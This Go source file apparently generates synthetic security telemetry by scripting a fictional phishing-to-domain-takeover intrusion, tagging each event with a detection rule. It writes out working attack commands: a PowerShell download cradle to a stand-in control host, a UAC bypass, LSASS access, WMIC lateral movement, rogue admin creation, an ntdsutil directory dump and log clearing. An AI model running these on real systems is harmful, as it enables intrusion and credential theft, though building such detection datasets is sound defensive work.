package main

import "time"

const (
	lure       = `C:\Users\m.okafor\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2VB1X\Delivery note 4471.docm`
	office     = `C:\Program Files\Microsoft Office\root\Office16\`
	controlIP  = "203.0.113.66"
	controlDNS = "cdn.parcel-status.example"
	implant    = `C:\ProgramData\Parcel\status.exe`
	implantWks = `C:\Users\m.okafor\AppData\Roaming\Parcel\status.exe`
	cmdExe     = sys32 + "cmd.exe"
)

// stage is the script that every foothold begins with.
const stage = `$w=New-Object Net.WebClient;$s=$w.DownloadString('https://` + controlDNS + `/n/4471');& ([scriptblock]::Create($s))`

// attack is the story that samples/README.md tells.
func (w *world) attack() {
	status := w.phish()
	elevated := w.surveyAndElevate(status)
	w.stealAndSpray(elevated)
	w.moveToWKS12(elevated)
	w.moveToFiles()
	w.takeDomain()
}

func hidden() string { return `powershell.exe -NoP -W Hidden -enc ` + encode(stage) }

// phish: 08:52, a document from a mail runs PowerShell, which fetches an implant.
func (w *world) phish() *proc {
	h := w.wks07
	outlook := w.start(at("08:04:30.120"), h.procs["explorer"], okafor, office+"OUTLOOK.EXE", `"`+office+`OUTLOOK.EXE"`)
	w.file(at("08:52:40.310"), outlook, lure)
	word := w.start(at("08:52:58.004"), outlook, okafor, office+"WINWORD.EXE", `"`+office+`WINWORD.EXE" /n "`+lure+`" /o ""`)
	w.load(at("08:53:12.870"), word, `C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`)

	ps := w.start(at("08:53:21.415"), word, okafor, powershellExe, hidden(), officeStartsHost, encodedCommand, encodedDownload)
	w.load(at("08:53:21.600"), ps, sys32+"amsi.dll")
	w.script(at("08:53:22.210"), ps, stage, scriptDownloads)
	w.callHome(at("08:53:23.050"), ps, powershellInternet)
	w.script(at("08:53:40.771"), ps, `New-Item -ItemType Directory -Force "$env:APPDATA\Parcel" | Out-Null
(New-Object Net.WebClient).DownloadFile('https://`+controlDNS+`/s/status.bin', "$env:APPDATA\Parcel\status.exe")
Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' ParcelStatus "$env:APPDATA\Parcel\status.exe"
Start-Process "$env:APPDATA\Parcel\status.exe"`, scriptDownloads)
	w.command(at("08:53:41.020"), ps, "New-Item", "ItemType", "Directory")
	w.file(at("08:54:02.560"), ps, implantWks)
	w.value(at("08:54:10.003"), ps, `HKU\`+okafor.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\ParcelStatus`, implantWks, runKeyInProfile)
	status := w.start(at("08:54:15.449"), ps, okafor, implantWks, `"`+implantWks+`"`)
	w.end(at("08:54:19.902"), ps)
	w.beacon(at("08:54:21.000"), at("09:36:00.000"), status, 6*time.Minute)
	return status
}

// surveyAndElevate: 09:12, where am I and who rules here; 09:36, past UAC.
func (w *world) surveyAndElevate(status *proc) *proc {
	ps := w.start(at("09:12:03.870"), status, okafor, powershellExe, "powershell.exe -NoP -NonI -c -")
	for _, c := range []struct{ clock, tool, arguments string }{
		{"09:12:31.100", "whoami.exe", "/all"},
		{"09:12:58.240", "ipconfig.exe", "/all"},
		{"09:14:20.730", "systeminfo.exe", ""},
		{"09:15:44.015", "net.exe", `group "Domain Admins" /domain`},
		{"09:16:02.660", "nltest.exe", "/dclist:harborlight.test"},
		{"09:18:37.481", "net.exe", "view /all /domain"},
		{"09:21:09.927", "quser.exe", "/server:SRV-FILES01"},
	} {
		cmd := `"` + sys32 + c.tool + `"`
		if c.arguments != "" {
			cmd += " " + c.arguments
		}
		p := w.start(at(c.clock), ps, okafor, sys32+c.tool, cmd, discovery)
		if c.tool == "nltest.exe" || c.tool == "net.exe" {
			w.connect(after(at(c.clock), 210), p, w.dc.ip, w.dc.fqdn(), 389)
		}
		w.end(after(at(c.clock), 900), p)
	}
	w.end(at("09:22:00.310"), ps)

	handler := `HKU\` + okafor.sid + `_Classes\ms-settings\shell\open\command`
	w.key(at("09:36:10.020"), status, handler)
	w.value(at("09:36:10.024"), status, handler+`\DelegateExecute`, "(Empty)", settingsHijacked)
	w.value(at("09:36:10.029"), status, handler+`\(Default)`, implantWks+" -e", settingsHijacked)
	fod := w.start(at("09:36:12.700"), status, okafor, sys32+"fodhelper.exe", `"`+sys32+`fodhelper.exe"`)
	admin := &user{okafor.name, okafor.domain, okafor.sid, true} // his other, unfiltered token
	elevated := w.start(at("09:36:13.555"), fod, admin, implantWks, implantWks+" -e")
	w.end(at("09:36:15.000"), fod)
	w.end(at("09:36:16.000"), status)
	w.beacon(at("09:37:00.000"), at("12:20:00.000"), elevated, 9*time.Minute)
	return elevated
}

// stealAndSpray: 09:41, LSASS is read; 09:58, what was found there is tried.
func (w *world) stealAndSpray(elevated *proc) {
	const trace = sys32 + `ntdll.dll+9d104|` + sys32 + `KERNELBASE.dll+2c13e|UNKNOWN(000001F2A31C4E10)`
	w.access(at("09:41:07.118"), elevated, w.wks07.procs["lsass"], "0x1010", trace, lsassOpened)
	w.access(at("09:41:07.630"), elevated, w.wks07.procs["lsass"], "0x1410", trace, lsassOpened)
	names := []string{"administrator", "t.brandt", "svc-sql", "svc-web", "j.lindqvist", "p.ramos", "helpdesk", "svc-scan"}
	for i, name := range names {
		t := at("09:58:04.300").Add(time.Duration(i) * 21 * time.Second)
		w.connect(t, elevated, w.files.ip, w.files.fqdn(), 445)
		w.logonFailed(after(t, 90), w.files, name, 3, w.wks07.ip, "WKS-07", networkLogonFailed)
	}
	w.logon(at("10:01:40.512"), w.files, backup, 3, w.wks07.ip, "WKS-07", 40*time.Second)
}

// moveToWKS12: 10:15, over WMI with the account of the backup service.
func (w *world) moveToWKS12(elevated *proc) {
	h := w.wks12
	call := `wmic /node:WKS-12 process call create "` + hidden() + `"`
	admin := elevated.user
	cmd := w.start(at("10:15:30.050"), elevated, admin, cmdExe, `cmd.exe /c `+call)
	wmic := w.start(at("10:15:30.190"), cmd, admin, sys32+`wbem\WMIC.exe`, call)
	w.connect(at("10:15:30.800"), wmic, h.ip, h.fqdn(), 135)
	w.logon(at("10:15:31.020"), h, backup, 3, w.wks07.ip, "WKS-07", 2*time.Minute)
	w.end(at("10:15:33.300"), wmic)
	w.end(at("10:15:33.340"), cmd)

	ps := w.start(at("10:15:31.777"), h.procs["wmiprvse"], backup, powershellExe, hidden(), wmiStartsShell, encodedCommand, encodedDownload)
	w.foothold(at("10:15:32.400"), ps, `\parcel-2c9a`)
}

// moveToFiles: 10:41, a service on the file server; 11:03, it stays.
func (w *world) moveToFiles() {
	h := w.files
	w.logon(at("10:41:12.610"), h, backup, 3, w.wks12.ip, "WKS-12", 5*time.Minute)
	path := `%COMSPEC% /c start /b ` + hidden()
	w.service(at("10:41:13.902"), h, backup, "ParcelSync", path, serviceRunsShell)
	w.key(at("10:41:13.910"), h.procs["services"], `HKLM\System\CurrentControlSet\Services\ParcelSync`)
	w.value(at("10:41:13.914"), h.procs["services"], `HKLM\System\CurrentControlSet\Services\ParcelSync\ImagePath`, path)
	cmd := w.start(at("10:41:14.330"), h.procs["services"], system, cmdExe, cmdExe+` /c start /b `+hidden())
	ps := w.start(at("10:41:14.471"), cmd, system, powershellExe, hidden(), encodedCommand, encodedDownload)
	w.end(at("10:41:14.700"), cmd)
	w.foothold(at("10:41:15.120"), ps, `\parcel-6f1e`)

	const query = `SELECT * FROM __InstanceModificationEvent WITHIN 1800 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Minute = 33`
	run := `cmd.exe /c ` + implant
	w.subscription(at("11:03:02.410"), h, backup, "ParcelHealth", query, run, wmiSubscription)
	for _, clock := range []string{"11:33:00.871", "12:33:00.902"} {
		t := at(clock)
		c := w.start(t, h.procs["wmiprvse"], system, cmdExe, run, wmiStartsShell)
		p := w.start(after(t, 120), c, system, implant, implant)
		w.end(after(t, 4000), p)
		w.end(after(t, 4020), c)
	}
}

// takeDomain: 11:24, a task on the domain controller, an account of their own,
// the directory's database, and the logs emptied.
func (w *world) takeDomain() {
	h := w.dc
	w.logon(at("11:24:05.333"), h, backup, 3, w.files.ip, "SRV-FILES01", 3*time.Minute)
	w.file(at("11:24:20.140"), h.procs["system"], `C:\Users\Public\check.cmd`)
	w.task(at("11:24:31.908"), h, backup, `\ParcelCheck`, `C:\Users\Public\check.cmd`, "", taskInPublicFolder)
	cmd := w.start(at("11:25:00.210"), h.procs["svchost"], system, cmdExe, `cmd.exe /c C:\Users\Public\check.cmd`)
	drop := w.start(at("11:25:01.020"), cmd, system, implant, implant)
	w.query(at("11:25:02.000"), drop, controlDNS, controlIP)
	w.beacon(at("11:25:03.000"), at("12:10:00.000"), drop, 8*time.Minute)

	intruder := &user{"hl-helpdesk2", domain, sidBase + "-1159", false}
	net := w.start(at("11:31:18.700"), cmd, system, sys32+"net.exe", `net user hl-helpdesk2 P@rcel-4471! /add /domain`)
	w.accountCreated(at("11:31:18.990"), h, h.account(), intruder)
	w.end(at("11:31:19.300"), net)
	net = w.start(at("11:31:40.120"), cmd, system, sys32+"net.exe", `net localgroup Administrators hl-helpdesk2 /add`)
	w.memberAdded(at("11:31:40.402"), h, h.account(), intruder, "Administrators", "S-1-5-32-544", memberAddedToAdmins)
	w.end(at("11:31:40.700"), net)

	ntds := w.start(at("11:47:22.015"), cmd, system, sys32+"ntdsutil.exe",
		`ntdsutil.exe "activate instance ntds" "ifm" "create full C:\Users\Public\ifm" quit quit`, directoryCopied)
	w.serviceState(at("11:47:23.100"), h, "Volume Shadow Copy", "running")
	w.file(at("11:47:58.660"), ntds, `C:\Users\Public\ifm\Active Directory\ntds.dit`)
	w.file(at("11:48:01.204"), ntds, `C:\Users\Public\ifm\registry\SYSTEM`)
	w.end(at("11:48:03.000"), ntds)
	w.connect(at("11:55:10.440"), drop, w.files.ip, w.files.fqdn(), 445)

	for _, x := range []struct {
		clock  string
		h      *host
		parent *proc
		by     *user
	}{{"12:08:44.190", h, drop, system}, {"12:11:27.803", w.files, w.files.procs["parcel"], system}} {
		t := at(x.clock)
		p := w.start(t, x.parent, x.by, sys32+"wevtutil.exe", `wevtutil.exe cl Security`)
		w.logCleared(after(t, 240), x.h, x.by, securityLogCleared)
		w.end(after(t, 380), p)
	}
	w.end(at("12:14:02.118"), drop)
	w.end(at("12:14:02.530"), cmd)
}

// foothold is what the first script does on a host that it is sent to.
func (w *world) foothold(t time.Time, ps *proc, pipe string) {
	w.script(t, ps, stage, scriptDownloads)
	w.callHome(after(t, 700), ps, powershellInternet)
	w.file(after(t, 9100), ps, implant)
	w.pipe(after(t, 11800), ps, pipe, parcelPipe)
	p := w.start(after(t, 12500), ps, ps.user, implant, implant)
	ps.host.procs["parcel"] = p
	w.end(after(t, 15000), ps)
	w.beacon(after(t, 20000), at("12:30:00.000"), p, 11*time.Minute)
}

func (w *world) callHome(t time.Time, p *proc, rules ...ruleID) {
	w.query(t, p, controlDNS, controlIP)
	w.connect(after(t, 180), p, controlIP, controlDNS, 443, rules...)
}

// beacon calls home about so often until the end.
func (w *world) beacon(t, end time.Time, p *proc, every time.Duration) {
	for t.Before(end) {
		w.connect(t, p, controlIP, controlDNS, 443)
		t = t.Add(every + time.Duration(w.roll(60))*time.Second)
	}
}
